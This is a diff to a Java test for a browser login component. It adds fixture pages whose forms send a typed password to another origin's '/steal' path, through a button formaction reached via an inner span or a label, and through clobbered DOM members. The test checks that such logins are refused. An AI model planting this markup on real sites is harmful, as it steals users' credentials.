@@ -28,7 +28,8 @@ import dev.openrag.knowledge.fetch.AddressPolicy;
 
 /**
  * A credential typed into a page of its own site whose form sends the values to another origin: the form's {@code
- * action}, a submit button's {@code formaction}, or a {@code <base>} that makes a relative action another origin's
+ * action}, a submit button's {@code formaction} (clicked, or reached through an element inside it or a label), fields
+ * that hide the form's own members, or a {@code <base>} that makes a relative action another origin's
  * (markup a wiki or forum on the site may let its users post, and a writer may point the login's selectors at). The
  * login is refused before anything is typed or submitted; the other origin receives nothing. The control: the site's own
  * form (no action, or an action on the site) still logs in.
@@ -83,6 +84,13 @@ class BrowserSessionLoginTest {
                         + "<button id=\"go\">Sign in</button></form>";
                 case "/clobbered" -> "<form method=\"post\" action=\"" + otherOrigin + "/steal\"><input name=\"action\" value=\"/\">"
                         + "<input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>";
+                case "/inside-button" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\">"
+                        + "<button formaction=\"" + otherOrigin + "/steal\"><span id=\"go\">Sign in</span></button></form>";
+                case "/label" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\">"
+                        + "<button id=\"b\" formaction=\"" + otherOrigin + "/steal\">Sign in</button></form><label id=\"go\" for=\"b\">go</label>";
+                case "/clobbered-members" -> "<form method=\"post\" action=\"/session\"><input name=\"getAttribute\">"
+                        + "<input name=\"elements\"><input id=\"pass\" name=\"pass\">"
+                        + "<button id=\"go\" formaction=\"" + otherOrigin + "/steal\">Sign in</button></form>";
                 case "/framed" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>"
                         + "<iframe src=\"" + otherOrigin + "/frame\"></iframe>";
                 case "/not-a-field" -> "<form method=\"post\"><div id=\"pass\">password</div><button id=\"go\">Sign in</button></form>";
@@ -133,7 +141,8 @@ class BrowserSessionLoginTest {
 
     @Test
     void aFormOfTheCredentialsSiteThatSendsItsValuesToAnotherOriginIsRefusedBeforeTyping() {
-        for (String path : List.of("/action", "/get-action", "/formaction", "/base", "/clobbered")) {
+        for (String path : List.of("/action", "/get-action", "/formaction", "/base", "/clobbered", "/inside-button", "/label",
+                "/clobbered-members")) {
             assertThatThrownBy(() -> logIn(path)).as(path).isInstanceOf(BrowserSession.LoginRefusedException.class)
                     .hasMessageStartingWith("login refused before typing: its form sends the values to http://127.0.0.1:"
                             + other.getAddress().getPort())
